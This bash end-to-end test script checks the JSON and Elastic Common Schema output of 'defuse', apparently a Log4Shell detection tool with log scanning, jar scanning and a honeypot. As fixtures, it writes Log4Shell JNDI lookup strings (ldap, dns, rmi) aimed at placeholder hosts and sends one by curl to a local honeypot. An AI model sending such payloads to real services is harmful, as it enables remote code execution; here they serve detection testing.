#!/usr/bin/env bash
# output_schema.sh -- the machine outputs of issue 13 item 14
# (docs/output-schemas.md):
#  - defuse JSON (logs --json, the honeypot's events) carries schema,
#    hostname and defuse_version; src_ip and time are present (null when
#    unknown), times always have a zone, src_ip is the name everywhere
#    (nginx's defuse_log: tests/e2e/nginx_block.sh);
#  - --ecs (logs, scan) and `log_format ecs` (honeypot) write Elastic Common
#    Schema documents whose every field is checked against the ECS
#    reference by tests/e2e/ecs_check.py (which must itself reject a bad
#    document).
source "$(dirname "$0")/honeypot/common.sh"
command -v python3 >/dev/null || { echo "SKIP: python3 missing"; exit 77; }
command -v curl >/dev/null || { echo "SKIP: curl missing"; exit 77; }
CHECK="python3 $DEFUSE_SRC/tests/e2e/ecs_check.py"

# ---- the checker can fail ---------------------------------------------------------
printf '%s\n' '{"@timestamp":"2021-12-10T13:00:00Z","ecs":{"version":"8.11.0"},"event":{"kind":"alert","category":["intrusion_detection"],"type":["info"]},"source":{"ip":"not-an-ip"},"url":{"port":"80"},"client_addr":"x"}' >"$T/bad.ecs"
out=$($CHECK "$T/bad.ecs") && fail "ecs_check.py accepts a bad document"
for want in "source.ip" "url.port" "client_addr"; do
    grep -q "$want" <<<"$out" || fail "ecs_check.py does not name $want: $out"
done
ok "ecs_check.py rejects a bad document: $(wc -l <<<"$out") errors"

# ---- logs --json ------------------------------------------------------------------------
{
    printf '10.0.0.1 - - [10/Dec/2021:13:00:00 +0100] "GET /?x=${jndi:ldap://a.example:1389/a} HTTP/1.1" 200 1 "-" "-"\n'
    printf '2021-12-10 13:00:00,123 WARN  [main] c.e.App - user ${jndi:dns://b.example/x}\n'
    printf 'no time, no address ${jndi:rmi://c.example/x}\n'
} >"$T/a.log"
"$DEFUSE" logs --json "$T/a.log" >"$T/logs.json" || [ $? -eq 1 ] || fail "logs --json failed"
python3 - "$T/logs.json" "$(hostname)" <<'EOF' || fail "logs --json fields"
import json, re, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
assert len(lines) == 3, lines
for l in lines:
    for k in ("schema", "hostname", "defuse_version", "src_ip", "time", "file", "line", "kind"):
        assert k in l, "no %s in %r" % (k, l)
    assert l["schema"] == 1 and l["hostname"] == sys.argv[2] and l["defuse_version"], l
    assert "client" not in l, l
    t = l["time"]
    assert t is None or re.search(r"(Z|[+-]\d\d:\d\d)$", t), "a time without a zone: %r" % t
a, b, c = lines
assert a["src_ip"] == "10.0.0.1" and a["time"] == "2021-12-10T12:00:00Z" and a["time_zone_assumed"] is False, a
assert b["src_ip"] is None and b["time"].endswith("Z") and b["time_zone_assumed"] is True, b
assert c["src_ip"] is None and c["time"] is None, c
EOF
ok "logs --json: schema, hostname, defuse_version; src_ip/time null when unknown; zoned times"
"$DEFUSE" logs --json --summary "$T/a.log" | tail -1 >"$T/sum.json" || true
python3 -c 'import json,sys; s=json.load(open(sys.argv[1])); assert s["summary"] is True and s["schema"] == 1 and s["hostname"] and s["defuse_version"], s' "$T/sum.json" ||
    fail "the --summary object lacks schema/hostname/defuse_version: $(cat "$T/sum.json")"

# ---- logs --ecs --------------------------------------------------------------------------
"$DEFUSE" logs --ecs --line "$T/a.log" >"$T/logs.ecs" || [ $? -eq 1 ] || fail "logs --ecs failed"
[ "$(wc -l <"$T/logs.ecs")" -eq 3 ] || fail "logs --ecs: $(wc -l <"$T/logs.ecs") documents, want 3"
out=$($CHECK "$T/logs.ecs" source.ip url.original url.domain url.port log.file.path host.hostname \
    event.original rule.name defuse.line) || fail "logs --ecs is not valid ECS: $out"
grep -q '\${' "$T/logs.ecs" && fail "logs --ecs holds a live \${"
ok "logs --ecs: 3 documents, every field valid ECS"

# ---- scan --ecs ---------------------------------------------------------------------------
python3 - "$T/jars/core.jar" <<'EOF'
import os, sys, zipfile
os.makedirs(os.path.dirname(sys.argv[1]))
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties",
               "version=2.14.1\ngroupId=org.apache.logging.log4j\nartifactId=log4j-core\n")
EOF
printf 'not a zip' >"$T/jars/broken.jar"
st=0
"$DEFUSE" scan --no-progress --ecs "$T/jars" >"$T/scan.ecs" 2>"$T/scan.err" || st=$?
[ "$st" -eq 1 ] || [ "$st" -eq 3 ] || fail "scan --ecs exit $st: $(cat "$T/scan.err")"
out=$($CHECK "$T/scan.ecs" vulnerability.id vulnerability.severity vulnerability.score.base \
    package.name package.version file.path host.hostname) || fail "scan --ecs is not valid ECS: $out"
grep -q '"CVE-2021-44228"' "$T/scan.ecs" || fail "scan --ecs: no CVE-2021-44228 document"
ok "scan --ecs: $(wc -l <"$T/scan.ecs") documents, every field valid ECS"

# ---- the honeypot: native JSON and log_format ecs -------------------------------------------
read -r P1 P2 < <(freeports 2)
for fmt in json ecs; do
    port=$P1
    [ "$fmt" = ecs ] && port=$P2
    cat >"$T/hp-$fmt.conf" <<EOF
log_file $T/hp-$fmt.jsonl
log_format $fmt
status_interval 200ms
[listener web]
protocol http
listen 127.0.0.1:$port
EOF
    hp_start "$T/hp-$fmt.conf"
    curl -s -o /dev/null -A 'x ${jndi:ldap://d.example:1389/a}' "http://127.0.0.1:$port/?q=1" ||
        fail "curl to the honeypot"
    wait_events "$T/hp-$fmt.jsonl" 'jndi' 1
    wait_events "$T/hp-$fmt.jsonl" 'sink\.status' 1
    hp_stop
done
python3 - "$T/hp-json.jsonl" "$(hostname)" <<'EOF' || fail "honeypot JSON fields"
import json, sys
evs = [json.loads(l) for l in open(sys.argv[1])]
for e in evs:
    for k in ("schema", "hostname", "defuse_version", "time", "src_ip", "event", "node"):
        assert k in e, "no %s in %r" % (k, e)
    assert e["schema"] == 1 and e["hostname"] == sys.argv[2] and e["time"].endswith("Z"), e
status = [e for e in evs if e["event"] == "sink.status"]
assert status and all(e["src_ip"] is None for e in status), status
req = [e for e in evs if e.get("kind") == "jndi"]
assert req and req[0]["src_ip"] == "127.0.0.1", req
EOF
ok "honeypot JSON: schema, hostname, defuse_version; src_ip null on daemon events"
out=$($CHECK "$T/hp-ecs.jsonl" source.ip source.port destination.port url.original \
    http.request.method user_agent.original rule.name observer.name message defuse.findings) ||
    fail "honeypot log_format ecs is not valid ECS: $out"
grep -q '\${' "$T/hp-ecs.jsonl" && fail "honeypot ECS holds a live \${"
ok "honeypot log_format ecs: $(wc -l <"$T/hp-ecs.jsonl") documents, every field valid ECS"

printf 'log_format xml\n[listener a]\nprotocol tcp\nlisten 127.0.0.1:1\n' >"$T/badfmt.conf"
msg=$("$DEFUSE" honeypot -c "$T/badfmt.conf" --check 2>&1) && fail "log_format xml accepted"
grep -q "badfmt.conf:1: log_format: expected json or ecs" <<<"$msg" || fail "log_format xml: $msg"
ok "log_format xml refused at its line"
echo "all passed"
